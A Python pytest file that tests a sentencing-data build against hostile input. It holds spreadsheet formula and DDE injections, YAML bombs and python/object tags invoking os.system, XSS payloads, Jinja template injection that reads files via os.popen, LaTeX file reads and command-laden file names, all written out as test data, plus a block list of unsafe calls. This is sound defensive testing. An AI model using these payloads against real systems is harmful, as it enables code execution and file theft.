"""Attacks on the build: hostile text in tables, files of YAML, values that are typed, and servers that misbehave.

Each case is one attack. It is stopped where the raw tables are checked, told in one short line with its place; or it
goes through as text that does nothing: no script, no formula, no file read, no command run, nothing written elsewhere.
"""

import ast
import csv
import gzip
import html.parser
import io
import json
import re
import shutil
import signal
import subprocess
import time as clock
import xml.etree.ElementTree as ET
from contextlib import contextmanager
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from test_fetch import EDITION, LAYOUTS, Time, answer, command, make, server, time  # noqa: F401

from sentencing import audit, corrections, figures, notebooks, paths, schemas, site, sources, tables
from sentencing.fetch import client
from sentencing.fetch.__main__ import main as fetch
from sentencing.site import explorer, pdf, reported
from sentencing.site.notebook import _latex

ROOT = paths.ROOT


@contextmanager
def within(seconds: float, waiting: bool = False):
    """Fail, rather than hang, when what is inside takes more time of a processor, or, `waiting`, of the day."""

    def late(*_):
        raise AssertionError(f"it took more than {seconds} s")

    timer, told = (signal.ITIMER_REAL, signal.SIGALRM) if waiting else (signal.ITIMER_PROF, signal.SIGPROF)
    before = signal.signal(told, late)
    signal.setitimer(timer, seconds)
    try:
        yield
    finally:
        signal.setitimer(timer, 0)
        signal.signal(told, before)


# --- The border: what no honest text holds --------------------------------------------------------------------------

INVISIBLE = {
    "NUL": "\0",
    "bell": "\a",
    "backspace": "\b",
    "tab": "\t",
    "vertical tab": "\v",
    "escape": "\x1b[31m",
    "delete": "\x7f",
    "next line": "\x85",
    "line separator": "\u2028",
    "override to the left": "\u202e",
    "embedding": "\u202b",
    "isolate": "\u2067",
    "mark to the right": "\u200e",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "byte order mark inside": "\ufeff",
    "soft hyphen": "\u00ad",
    "tag letter": "\U000e0041",
    "private use": "\ue000",
}
FORMULAS = {
    "sum": "=1+1",
    "call": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://example.org?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "after a space": "  =1+1",
    "after a quotation mark": '"=1+1',
    "after an apostrophe": "'=1+1",
    "after both": " '\" =1+1",
    "full width": "＝1+1",
    "full-width at": "＠SUM(1)",
    "after a semicolon": "seen;=1+1",
    "in a second line": "seen\n=1+1",
    "minus and a word": "-x",
    "number and more": "-3.1 %",
    "dots": "+.",
}
NO_FORMULAS = {
    "negative number": "-5",
    "broken number": "-0.25",
    "signed": "+7",
    "power": "-1e-05",
    "dash": "– so it is said",
    "minus sign": "−5 to 3",
    "inside": "a = b + c - d @ e",
    "list of numbers": "3;-4",
    "address": "see a@b",
    "quotation": '"so" it is',
    "apostrophe": "'90s",
    "code": "<5",
    "blank": "",
    "text": "Šabac, „tako“ i Ђ",
    "sum in a remark": "final; = 34 + 7 + 17",
    "narrow space": "1\u202f000",
    "line break": "one\ntwo",
    "emoji": "\U0001f600",
}


def told(problems, row: int, column: str) -> list[str]:
    return [str(p) for p in problems if (p.row, p.column) == (row, column)]


@pytest.mark.parametrize("name", INVISIBLE)
def test_border_refuses_signs_that_nobody_sees(raw, name):
    raw.put("tip/figures.csv", 2, "note", f"honest {INVISIBLE[name]} text")
    (fault,) = told(raw.problems(), 2, "note")
    assert "figures.csv, row 2, column note" in fault and "U+" in fault and len(fault) < 400 and fault.isprintable()


@pytest.mark.parametrize("name", FORMULAS)
def test_border_refuses_what_a_spreadsheet_would_run(raw, name):
    raw.put("tip/figures.csv", 2, "note", FORMULAS[name])
    line = 3 if "\n" in FORMULAS[name] else 2
    (fault,) = told(raw.problems(), line, "note")
    assert "formula" in fault and len(fault) < 400


@pytest.mark.parametrize("name", NO_FORMULAS)
def test_border_lets_honest_text_pass(raw, name):
    raw.put("tip/figures.csv", 2, "note", NO_FORMULAS[name])
    assert raw.load()["note"].iloc[0] == NO_FORMULAS[name] or (pd.isna(raw.load()["note"].iloc[0]) and name == "blank")


@pytest.mark.parametrize("n", [5_001, 200_000, 10_000_000], ids=lambda n: f"{n:,} letters")
def test_border_tells_a_long_cell_shortly_and_at_once(raw, n):
    raw.put("tip/figures.csv", 3, "iso3", "XXX")  # which it does not hide
    raw.put("tip/figures.csv", 2, "note", "a" * n)
    with within(5):
        problems = raw.problems()
    (fault,) = told(problems, 2, "note")
    assert f"{n:,}" in fault and "5,000" in fault and len(fault) < 400 and told(problems, 3, "iso3")
    assert len(str(schemas.RawDataError(problems))) < 1_000


def test_longest_cell_that_is_allowed_passes(raw):
    raw.put("tip/figures.csv", 2, "note", "a" * 5_000)
    assert len(raw.load()["note"].iloc[0]) == 5_000


FILES = {
    "surrogates": b"iso3,n\nSRB,\xed\xa0\x80\n",
    "overlong": b"iso3,n\n\xc0\xaf,1\n",
    "UTF-16": "iso3,n\n".encode("utf-16"),
    "byte order mark": b"\xef\xbb\xbfiso3,n\nSRB,1\n",
    "line ends of Windows": b"iso3,n\r\nSRB,1\r\n",
    "line ends of old": b"iso3,n\rSRB,1\r",
    "carriage return in a cell": b"iso3,n\nSRB,1\r\n",
    "carriage return in quotation marks": b'iso3,n\n"SR\rB",1\n',
    "NUL": b"iso3,n\nSRB,1\0\n",
    "open quotation": b'iso3,n\n"SRB,1\n',
    "open quotation and 10 MB": b'iso3,n\n"' + b"a" * 10_000_000,
    "formula as a column": b"iso3,n,=1+1\nSRB,1,\n",
    "invisible column": "iso3,n,\u202ex\nSRB,1,\n".encode(),
    "row of 10 MB": b"iso3,n\nSRB,1," + b"a" * 10_000_000,
    "column named by 10 MB": b"iso3,n," + b"a" * 10_000_000 + b"\nSRB,1,\n",
    "10,000 columns": b"iso3,n," + b",".join(b"c%d" % i for i in range(10_000)) + b"\nSRB,1" + b"," * 10_000 + b"\n",
    "10,000 times the same column": b"iso3" + b",n" * 10_000 + b"\nSRB" + b",1" * 10_000 + b"\n",
    "row of 10,000 fields": b"iso3,n\nSRB" + b",1" * 10_000 + b"\n",
    "nothing but line feeds": b"\n" * 20_000,
}


@pytest.mark.parametrize("name", FILES)
def test_border_refuses_the_file_shortly_and_at_once(raw, name):
    raw.write("plain.csv", FILES[name])
    with within(5):
        problems = raw.problems("plain.csv")
    assert "plain.csv" in str(problems[0]) and all(len(str(p)) < 700 and str(p).isprintable() for p in problems)
    assert len(problems) <= 30 or name == "nothing but line feeds"


NAMES = ["<img src=x onerror=pwned()>.csv", "a;b.csv", "a b.csv", "$(id).csv", "=1+1.csv", "a\nb.csv", "\u202eb.csv"]


@pytest.mark.parametrize("name", NAMES)
def test_border_refuses_names_of_tables_that_are_markup_or_commands(raw, name):
    raw.sidecar(name, sources.read_sidecar("plain.csv", raw.path))
    raw.write(name, (raw.path / "plain.csv").read_bytes())
    _, problems = schemas.check_all(raw.path)
    assert any("letters" in str(p) and str(p).isprintable() for p in problems)


def test_border_tells_all_hostile_cells_at_once(raw):
    cells = [*(f"a{sign}b" for sign in INVISIBLE.values()), *FORMULAS.values(), "a" * 6_000]
    head, first, *_ = raw.rows("tip/figures.csv")
    rows = [[f"R{i}", *first[1:-1], text.replace("\n", ";")] for i, text in enumerate(cells, 1)]
    raw.write_rows("tip/figures.csv", [head, *rows])
    assert {p.row for p in raw.problems() if p.column == "note"} >= {2, len(cells) + 1}
    assert len({p.row for p in raw.problems() if p.column == "note"}) == len(cells)


# --- YAML: sidecars, corrections, parameters, choices ---------------------------------------------------------------

LAUGHS = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 12))
MERGES = "".join(f"m{i}: &m{i} {{<<: [{', '.join([f'*m{i - 1}'] * 10)}]}}\n" for i in range(1, 9))
PLANT = "from pathlib import Path; Path('{}').write_text('x')"
BOMBS = {
    "lists of lists": f"a0: &a0 [lol, lol]\n{LAUGHS}",
    "merged keys": f"m0: &m0 {{k: v}}\n{MERGES}",
    "list that holds itself": "a: &a [*a]\n",
    "mapping that holds itself": "a: &a {b: *a}\n",
    "nested lists": "a: " + "[" * 100_000,
    "nested lists, closed": "a: " + "[" * 5_000 + "]" * 5_000,
    "nested mappings": "a: " + "{b: " * 10_000,
    "file of 5 MB": "a: " + "b" * 5_000_000,
    "number of a million digits": "a: " + "1" * 900_000,
    "day that does not exist": "a: 2020-99-99\n",
    "os.system": '!!python/object/apply:os.system ["touch {planted}"]',
    "eval": '!!python/object/apply:eval ["1"]',
    "subprocess": '!!python/object/apply:subprocess.check_output [["touch", "{planted}"]]',
    "new object": "!!python/object/new:os.system [touch {planted}]",
    "name": "a: !!python/name:os.system",
    "module": "a: !!python/module:os",
    "tuple": "a: !!python/tuple [1, 2]",
    "own tag": "a: !hostile b",
    "NUL": "a: \0\n",
    "not closed": "a: [\n",
    "two documents": "a: 1\n---\nb: 2\n",
    "unknown alias": "a: *b\n",
}
READERS = {
    "sidecar": (lambda raw: raw.load("plain.csv"), "raw/plain.yml", schemas.RawDataError),
    "corrections": (
        lambda raw: corrections.read_declared(raw.path / "c.yml"),
        "raw/c.yml",
        corrections.CorrectionError,
    ),
    "parameters": (
        lambda raw: notebooks.resolve_parameters(raw.path / "p.yml", {}),
        "raw/p.yml",
        notebooks.ParameterError,
    ),
    "declared choices": (lambda raw: sources.read_declared(raw.path / "d.yml", dict), "raw/d.yml", ValueError),
}


# All read by one function.
@pytest.mark.parametrize(
    "reader", ["sidecar", *(pytest.param(r, marks=pytest.mark.slow) for r in READERS if r != "sidecar")]
)
@pytest.mark.parametrize("name", BOMBS)
def test_yaml_that_bursts_or_runs_something_is_refused(raw, tmp_path, name, reader):
    planted = tmp_path / "planted"
    read, place, error = READERS[reader]
    (tmp_path / place).write_text(BOMBS[name].replace("{planted}", str(planted)), encoding="utf-8")
    with within(3), pytest.raises(error) as caught:
        read(raw)
    assert not planted.exists() and Path(place).name in str(caught.value) and len(str(caught.value)) < 1_500


def test_yaml_in_bytes_that_are_no_text_is_refused(raw):
    (raw.path / "plain.yml").write_bytes(b"title: \xed\xa0\x80\n")
    assert "plain.yml" in str(raw.problems("plain.csv")[0])


def test_yaml_that_repeats_itself_in_measure_is_read():
    """As params/multiverse-countries.yml does: every choice touches the same results."""
    assert sources.parse_yaml("a: &a [1, 2]\nb: *a\nc: {<<: &m {x: 1}, y: 2}\n") == {
        "a": [1, 2], "b": [1, 2], "c": {"x": 1, "y": 2}}  # fmt: skip


SHAPES = {
    "column of nothing": {"columns": {"iso3": None, "n": None}}, "column of text": {"columns": {"iso3": "country"}},
    "columns named by numbers": {"columns": {1: {"type": "text"}}}, "key of a number": {"key": 5},
    "key of text": {"key": "iso3"}, "key of lists": {"key": [["iso3"]]}, "pairs of text": {"not_above": "n"},
    "pairs of numbers": {"not_above": [1]}, "title of lists": {"title": [["x"]]}, "checksum of a number": {"sha256": 1},
    "bound of words": {"columns": {"iso3": {"type": "country"}, "n": {"type": "integer", "min": "none"}}},
    "bound without end": {"columns": {"iso3": {"type": "country"}, "n": {"type": "integer", "min": float("nan")}}},
    "type of lists": {"columns": {"iso3": {"type": ["country"]}, "n": {"type": "integer"}}},
    "codes of text": {"columns": {"iso3": {"type": "country"}, "n": {"type": "integer", "codes": 5}}},
    "meaning of lists": {"columns": {"iso3": {"type": "country", "description": [1]}, "n": {"type": "integer"}}},
    "troubles of a number": {"known_troubles": 5}, "invisible title": {"title": "a\u202eb"},
    "very long title": {"title": "a" * 100_000}, "agreement of text": {"double_coding": "much"},
}  # fmt: skip


@pytest.mark.parametrize("name", SHAPES)
def test_sidecar_of_another_shape_is_told_and_never_a_crash(raw, name):
    raw.edit_sidecar("plain.csv", lambda sidecar: sidecar.update(SHAPES[name]))
    problems = raw.problems("plain.csv")
    assert "plain.yml" in str(problems[0]) and all(len(str(p)) < 700 and str(p).isprintable() for p in problems)


# --- Pages ----------------------------------------------------------------------------------------------------------

# In each payload stands its own mark: a script that ran has set it, and an element that was injected carries it.
SCRIPTS = {
    "script": "<script>window.pwned_script=true</script>",
    "script across a fence": "```\n\n<script>window.pwned_fence=true</script>\n\n```",
    "end of a script": "</script><script>window.pwned_end=true</script>",
    "end of text and style": "</textarea></title></style><svg onload=window.pwned_svg=true>",
    "image": '"><img src=x onerror="window.pwned_img=true">',
    "image in apostrophes": "'><img src=x onerror='window.pwned_apo=true'>",
    "attribute": '" onmouseover="window.pwned_attr=true" autofocus onfocus="window.pwned_focus=true" x="',
    "details": "<details open ontoggle=window.pwned_toggle=true>",
    "frame": "<iframe srcdoc='<script>parent.pwned_frame=true</script>'></iframe>",
    "object": "<object data='javascript:parent.pwned_object=true'></object>",
    "base": "<base href='https://pwned-base.example/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://pwned-refresh.example/'>",
    "stylesheet": "<link rel=stylesheet href='https://pwned-style.example/x.css'>",
    "form": "<form action='https://pwned-form.example/'><button>x</button></form>",
    "link": "[press](javascript:window.pwned_link=true)",
    "link in angles": "<javascript:window.pwned_angle=true>",
    "link with entities": "[press](&#106;avascript:window.pwned_entity=true)",
    "data link": "[x](data:text/html,<script>pwned_data</script>)",
    "picture": "![x](https://pwned-picture.example/x.png)",
    "reference": "[pwned ref]: javascript:window.pwned_ref=true\n\n[pwned ref]",
    "comment": "<!-- pwned --><!--><script>window.pwned_comment=true</script>-->",
    "CDATA": "<![CDATA[<script>window.pwned_cdata=true</script>]]>",
    "entities": "&lt;script&gt;window.pwned_escaped=true&lt;/script&gt;",
}
READS = {
    "include": "```{include} {secret}\n```",
    "literalinclude": "```{literalinclude} {secret}\n```",
    "raw with a file": "```{raw} html\n:file: {secret}\n```",
    "table of a file": "```{csv-table}\n:file: {secret}\n```",
    "colons": ":::{include} {secret}\n:::",
    "reST": "```{eval-rst}\n.. include:: {secret}\n```",
    "reST, raw": "```{eval-rst}\n.. raw:: html\n   :file: {secret}\n```",
    "download": "{download}`{secret}`",
    "role": "{raw-html}`<script>window.pwned_role=true</script>`",
    "raw": "```{raw} html\n<script>window.pwned_raw=true</script>\n```",
    "substitution": "|release| {{ version }} {sub-ref}`today`",
    "Jinja": '{{ "jin" ~ "ja" }} {% include "{secret}" %} {# x #}',
    "Jinja objects": "{{ cycler.__init__.__globals__.os.popen('cat {secret}').read() }}",
    "formula": r"$\require{x}$ $$\input{{secret}}$$",
    "front matter": "---\nhtml_theme: x\n---",
    "toctree": "```{toctree}\n{secret}\n```",
    "code cell": "```{code-cell}\nopen('{secret}').read()\n```",
    "comment": "% {secret}",
    "label": "(pwned-label)=\n# Heading of a stranger",
    "attributes": "{#pwned-id .pwned onclick=window.pwned_curly=true}",
}
UNREAD = "THE-WORDS-OF-A-FILE"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The small site, with every payload wherever text of others is shown, in the explorer too."""
    import small_site

    folder = tmp_path_factory.mktemp("hostile")
    secret = folder / "secret.txt"
    secret.write_text(UNREAD, encoding="utf-8")
    text = "\n\n".join(payload.replace("{secret}", str(secret)) for payload in [*SCRIPTS.values(), *READS.values()])
    read = explorer.read

    def with_payloads(parameters: Path) -> dict:
        content = read(parameters)
        content["rows"][0] |= {"p": text, "t": text}
        next(fit for fit in content["fits"] if "curve" not in fit)["why"] = text
        named = {key: dict.fromkeys(content[key], text) for key in ("countries", "kinds")}
        return (
            content | named | {"sources": [[name, text] for name, _ in content["sources"][:1]] + content["sources"][1:]}
        )

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(explorer, "read", with_payloads)
        built = small_site.build(folder, with_explorer=True, hostile=text)
    return built.to, text


class Markup(html.parser.HTMLParser):
    """Elements and attributes of a page, and the text that it shows."""

    def __init__(self, text: str):
        super().__init__()
        self.attributes: list[tuple[str, str, str]] = []
        self.tags, self.words, self.in_script = [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self.in_script = tag in ("script", "style")

    def handle_endtag(self, tag):
        self.in_script = False

    def handle_data(self, data):
        if not self.in_script:
            self.words.append(data)


@pytest.fixture(scope="module")
def markup(hostile_site):
    place, _ = hostile_site
    return {path.stem: Markup(path.read_text(encoding="utf-8")) for path in sorted(place.glob("*.html"))}


PAGES = {"sources", "data", "corrections", "countries", "01-first", "country-hrv"}


def flat(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("name", [*SCRIPTS, *READS])
def test_payload_is_shown_as_text_on_every_page_that_has_it(markup, hostile_site, name):
    payload = (SCRIPTS | READS)[name].replace("{secret}", str(hostile_site[0].parents[1] / "secret.txt"))
    lacking = {page for page in PAGES - {"country-hrv"} if flat(payload) not in flat("".join(markup[page].words))}
    assert lacking == set()


def test_no_page_has_elements_or_attributes_of_a_stranger(markup):
    for page, found in markup.items():
        assert not {"iframe", "object", "embed", "base", "textarea"} & set(found.tags), page
        for tag, attribute, value in found.attributes:
            assert not attribute.startswith("on") and attribute not in ("srcdoc", "formaction"), (page, tag, attribute)
            if attribute in ("href", "src", "action", "content", "id", "class", "data"):
                named_after_heading = re.fullmatch(r"(?:\w+\.html)?#?[\w.-]+", value)
                assert named_after_heading or "pwned" not in value, (page, tag, attribute, value)
                assert "javascript:" not in value.lower(), (page, tag, attribute, value)


def test_no_page_has_read_a_file(hostile_site):
    place, _ = hostile_site
    read = [path.name for path in place.rglob("*") if path.is_file() and UNREAD.encode() in path.read_bytes()]
    assert read == []
    assert not any(path.name == "secret.txt" for path in place.rglob("*"))


BROWSER = next(filter(None, map(shutil.which, pdf.BROWSERS)), None)
# What a page asks for that it is not made of, what it says to the console, and marks that a script has set. (Pages of
# the small site with less in it are visited by test_pages.py each time.)
MARKS = "() => Object.keys(window).filter(name => name.startsWith('pwned'))"
CLICK = """() => document.querySelectorAll('details').forEach(folded => folded.open = true)"""


@pytest.fixture(scope="module")
def visited(hostile_site, tmp_path_factory):
    """What happened on each page: marks, dialogs, requests, messages."""
    playwright = pytest.importorskip("playwright.sync_api", reason="pages are visited with playwright")
    if not BROWSER:
        pytest.skip("pages are visited in chromium, which is not installed")
    place, _ = hostile_site
    seen: dict[str, list[str]] = {}
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=BROWSER, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        runs = tmp_path_factory.mktemp("runs") / "runs.html"
        runs.write_text("<title>x</title><h1>x</h1>" + SCRIPTS["script"] + SCRIPTS["image"], encoding="utf-8")
        for path in [*sorted(place.glob("*.html")), runs]:
            traces = seen.setdefault(path.stem, [])
            listeners = {
                "console": lambda said, t=traces: said.type in ("error", "warning") and t.append(f"said {said.text}"),
                "pageerror": lambda error, t=traces: t.append(f"error {error}"),
                "dialog": lambda dialog, t=traces: (t.append(f"dialog {dialog.message}"), dialog.dismiss()),
                "request": lambda asked, t=traces: (
                    asked.url.startswith((place.as_uri(), "data:")) or t.append(f"asked {asked.url}")),
            }  # fmt: skip
            for event, listener in listeners.items():
                page.on(event, listener)
            page.goto(path.as_uri())
            page.evaluate(CLICK)
            page.mouse.move(200, 300)
            page.wait_for_timeout(20)
            traces += page.evaluate(MARKS)
            for event, listener in listeners.items():
                page.remove_listener(event, listener)
        browser.close()
    return seen


@pytest.mark.slow
@pytest.mark.parametrize("page", sorted({*PAGES, "index", "claims", "readers", "explorer", "search", "method"}))
def test_browser_runs_nothing_and_asks_for_nothing(visited, page):
    assert visited[page] == []


@pytest.mark.slow
def test_browser_visits_every_page(visited, markup):
    assert set(visited) == {*markup, "runs"}
    assert [trace for page in markup for trace in visited[page]] == []


@pytest.mark.slow
def test_browser_would_notice_a_script(visited):
    """On a page that does run scripts and asks for a picture, so that the tests above can fail."""
    assert {"pwned_script", "pwned_img"} <= set(visited["runs"]) and any("asked" in trace for trace in visited["runs"])


@pytest.mark.slow
@pytest.mark.skipif(not BROWSER, reason="PDF is printed by chromium, which is not installed")
@pytest.mark.parametrize("page", ["01-first", "sources", "corrections"])
def test_print_of_a_hostile_page_holds_no_script_and_no_file(hostile_site, tmp_path, page):
    (printed,) = pdf.print_pages(hostile_site[0], tmp_path, [page])
    content = printed.read_bytes()
    assert content.startswith(b"%PDF") and UNREAD.encode() not in content
    assert b"/JavaScript" not in content and b"/Launch" not in content and b"javascript:" not in content


# --- Pieces of pages ------------------------------------------------------------------------------------------------

ALLOWED_TAGS = {"figure", "figcaption", "div", "table", "thead", "tbody", "tr", "th", "td", "p", "details", "summary",
                "img"}  # fmt: skip


@pytest.mark.parametrize("name", SCRIPTS)
def test_table_on_a_page_shows_text_only(name):
    text = SCRIPTS[name]
    shown = tables.show(pd.DataFrame({text: [text, None], "n": [1, 2]}), text, note=text, heads_rows=True)
    found = Markup(shown.markup)
    assert set(found.tags) <= ALLOWED_TAGS and "".join(found.words).count(text) == 4 - (
        "_" in text
    )  # as a head with blanks
    assert {name for _, name, _ in found.attributes} <= {"class", "tabindex", "scope"}


LABELS = SCRIPTS | {
    "formula": "$\\frac{1}{0}$", "broken formula": "$x$ $\\nothing$ $", "formula that loads": "$\\input{/etc/passwd}$",
    "end of a comment": "--><script>window.pwned_svg_comment=true</script><!--", "double hyphen": "a -- b --",
    "end of an element": "</text><script>window.pwned_svg_end=true</script>", "entity": "&xxe; <!DOCTYPE x>",
    "braces": "{0} {name} %s %(x)s",
}  # fmt: skip


@pytest.mark.parametrize("name", [pytest.param(n, marks=pytest.mark.slow) if n in SCRIPTS else n for n in LABELS])
def test_figure_draws_labels_as_text(name):
    text = LABELS[name].replace("\n", " ")
    drawing, (axis,) = figures.panels([text])
    axis.set_title(text)
    axis.plot([1, 2], [1, 2], label=text)
    axis.set_xlabel(text)
    axis.set_yticks([1, 2], [text, text])
    drawing.legend()
    shown = figures.show(drawing, text, text)
    address = next(value for tag, name, value in Markup(shown.markup).attributes if (tag, name) == ("img", "src"))
    from urllib.parse import unquote

    root = ET.fromstring(unquote(address.removeprefix("data:image/svg+xml,")))
    tags = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert not {"script", "foreignObject", "image", "a", "iframe", "set", "animate"} & tags
    assert not any(name.startswith("on") for element in root.iter() for name in element.attrib)


@pytest.mark.parametrize("name", [*SCRIPTS, *READS])
def test_explorer_holds_data_that_end_no_element(name):
    text = (SCRIPTS | READS)[name]
    written = explorer.as_json({text: [text]})
    assert "<" not in written and json.loads(written) == {text: [text]}


@pytest.mark.parametrize("name", [*SCRIPTS, *READS])
def test_latex_table_has_no_command_of_a_stranger(name):
    text = (SCRIPTS | READS)[name] + r"\input{x}\write18{y}^^5c%\end{tabular}"
    written = _latex(tables.csv_text(pd.DataFrame({text: [text], "b": [text]})), text)
    inside = {"textasciitilde", "textasciicircum", "textbackslash", "&", "%", "$", "#", "_", "{", "}", "\\"}
    frame = {"begin", "end", "caption", "toprule", "midrule", "bottomrule", "label", "centering"}
    assert set(re.findall(r"\\([a-z]+|.)", written)) <= inside | frame and not re.search(r"(?<!\\)%|\^\^", written)


def test_latex_table_has_numbers_as_they_are_on_the_page():
    frame = pd.DataFrame({"change": ["-3.1 (-7.5 to 1.1) %", "+1 (+0 to +1)", "'90s"]})
    written = _latex(tables.csv_text(frame), "")
    assert "\n-3.1 (-7.5" in written and "\n+1 (+0" in written and "\n'90s" in written


README = "# T\n\n{0}\n{1}\n\n{2}\n{3}\n"


@pytest.mark.parametrize("name", [*SCRIPTS, *READS])
def test_readme_shows_findings_and_claims_as_text(tmp_path, monkeypatch, name):
    from markdown_it import MarkdownIt

    text = (SCRIPTS | READS)[name] + " | a cell"
    monkeypatch.setattr(reported, "FINDINGS", [("05-sentences-in-serbia", "finding", "{value}")])
    values = {"finding": {"value": text, "unit": "sentence", "label": "x"},
              "figure_alt": {"value": text, "unit": "text", "label": "x"}}  # fmt: skip
    claimed = {"C01": {"value": 7, "unit": "persons", "label": text},
               "C01_verdict": {"value": "supported", "unit": "verdict", "label": text}}  # fmt: skip
    for notebook, content in (("05-sentences-in-serbia", values), (reported.CLAIMS, claimed)):
        (tmp_path / f"{notebook}.json").write_text(json.dumps({"notebook": notebook, "values": content}))
    (tmp_path / reported.FIGURE[2]).write_text("<svg/>")
    marks = (reported.BEGIN, reported.END, reported.BEGIN_CLAIMS, reported.END_CLAIMS)
    readme = tmp_path / "README.md"
    readme.write_text(README.format(*marks))
    reported.write_findings(readme, tmp_path)
    found = Markup(MarkdownIt("commonmark", {"html": True}).enable("table").render(readme.read_text()))
    assert set(found.tags) <= {"h1", "ul", "li", "p", "a", "img", "table", "thead", "tbody", "tr", "th", "td"}
    links = [value for _, name, value in found.attributes if name in ("href", "src")]
    assert all(re.fullmatch(r"notebooks/[\w-]+\.ipynb|[\w.-]+\.svg", link) for link in links), links
    assert found.tags.count("td") == 4 and flat("".join(found.words)).count(flat(text)) == 3


# --- Exports --------------------------------------------------------------------------------------------------------


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def would_run(cell: str) -> bool:
    """Whether a spreadsheet would take a cell, or what it takes for one where ';' parts cells, for a formula."""
    pieces = [line.lstrip(" \v\f\x1c\x1d\x1e\x1f\x85\xa0") for line in re.split(r"[\r\n]", cell)]
    pieces += re.split(r"[;\t]", cell)
    return any(re.match(r"\"*[=+\-@＝＋－＠]", p) and not re.fullmatch(r"[+-]?(\d+(\.\d+)?([eE][+-]?\d+)?|inf)\s*", p)
               for p in pieces)  # fmt: skip


@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("where", ["cell", "column", "put together"])
def test_written_table_has_no_formula(name, where):
    text = FORMULAS[name]
    frame = {"cell": pd.DataFrame({"a": [text, "x"]}), "column": pd.DataFrame({text: ["x"]}),
             "put together": pd.DataFrame({"a": ["x;" + text, text + ";" + text]})}[where]  # fmt: skip
    written = cells(tables.csv_text(frame))
    assert not any(would_run(cell) for row in written for cell in row)
    kept = [cell.replace("'", "") for row in written for cell in row]
    original = [str(v).replace("'", "") for v in [*frame.columns, *frame.to_numpy().ravel()]]
    assert kept == original


@pytest.mark.parametrize("name", NO_FORMULAS)
def test_written_table_leaves_honest_text_as_it_is(name):
    assert cells(tables.csv_text(pd.DataFrame({"a": ["x", NO_FORMULAS[name]]})))[2] == [NO_FORMULAS[name]] or not name


@settings(max_examples=50)
@given(st.lists(st.one_of(st.text(), st.floats(allow_nan=False), st.integers()), min_size=1))
def test_no_written_cell_is_a_formula_and_numbers_stay_numbers(found):
    frame = pd.DataFrame({"n": pd.Series([v for v in found], dtype=object)})
    written = cells(tables.csv_text(frame))
    assert not any(would_run(cell) for row in written for cell in row)
    numbers = pd.DataFrame({"a": [-1.5, -0.25, 3e-9], "b": [-7, 0, 7]})
    assert cells(tables.csv_text(numbers))[1:] == [["-1.5", "-7"], ["-0.25", "0"], ["3e-09", "7"]]


def test_downloads_of_the_hostile_site_have_no_formula(hostile_site):
    found = [
        path for path in sorted(hostile_site[0].rglob("*.csv")) if "raw" not in path.relative_to(hostile_site[0]).parts
    ]
    assert found
    # Raw tables are offered as they are: the border has to stop them.
    with pytest.raises(schemas.RawDataError, match="formula"):
        schemas.load_raw("sources.csv", hostile_site[0].parents[1] / "raw")
    for path in found:
        assert not any(would_run(cell) for row in cells(path.read_text(encoding="utf-8")) for cell in row), path.name


def test_exported_tables_of_this_repository_have_no_formula():
    outcome = audit.CHECKS["formulas"](audit.Place(site=ROOT / "build" / "no site"))
    assert (outcome.status, outcome.faults) == (audit.OK, [])


@pytest.mark.parametrize("name", FORMULAS)
def test_narratives_from_elsewhere_are_written_without_formulas(tmp_path, name):
    from sentencing.fetch.__main__ import COLUMNS, write_rows

    row = dict.fromkeys(COLUMNS, "") | {"iso3": "SRB", "report_year": 2018, "prosecution": FORMULAS[name]}
    write_rows([row], tmp_path / "narratives.csv")
    written = cells((tmp_path / "narratives.csv").read_text(encoding="utf-8"))
    assert not any(would_run(cell) for line in written for cell in line)


# --- The source: nothing runs what it reads -------------------------------------------------------------------------

UNSAFE_MODULES = {"pickle", "cPickle", "joblib", "marshal", "shelve", "dill", "cloudpickle", "tarfile", "telnetlib"}
UNSAFE_CALLS = {"eval", "exec", "compile", "__import__"}
UNSAFE_NAMES = {"os.system", "os.popen", "pandas.read_pickle", "pd.read_pickle", "np.load", "numpy.load",
                "subprocess.getoutput", "subprocess.getstatusoutput", "yaml.unsafe_load", "yaml.full_load",
                "yaml.load_all", "yaml.unsafe_load_all", "yaml.full_load_all", "shutil.unpack_archive"}  # fmt: skip
UNSAFE_METHODS = {"extractall", "extract", "read_pickle", "to_pickle"}
SAFE_LOADERS = {"yaml.CSafeLoader", "yaml.SafeLoader", "yaml.BaseLoader"}
# A benchmark runs the cells of this repository's own notebooks in one process.
LET = {("benchmarks/kernels.py", "exec"), ("benchmarks/kernels.py", "compile")}
REGEX = {"re.compile"}


def unsafe(source: str) -> set[str]:
    """Names of what a Python source uses that may run what it reads."""
    found = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names if alias.name.split(".")[0] in UNSAFE_MODULES}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found |= {node.module} if node.module.split(".")[0] in UNSAFE_MODULES else set()
            found |= {f"{node.module}.{a.name}" for a in node.names if f"{node.module}.{a.name}" in UNSAFE_NAMES}
        elif isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            method = node.func.attr if isinstance(node.func, ast.Attribute) else ""
            of_text = name.endswith(".str.extract")
            if name in UNSAFE_CALLS | UNSAFE_NAMES or (method in UNSAFE_METHODS and not of_text):
                found.add(name)
            loader = [k.value for k in node.keywords if k.arg == "Loader"] + node.args[1:2]
            if name == "yaml.load" and (not loader or ast.unparse(loader[0]) not in SAFE_LOADERS):
                found.add(name)
            shell = next((k.value for k in node.keywords if k.arg == "shell"), None)
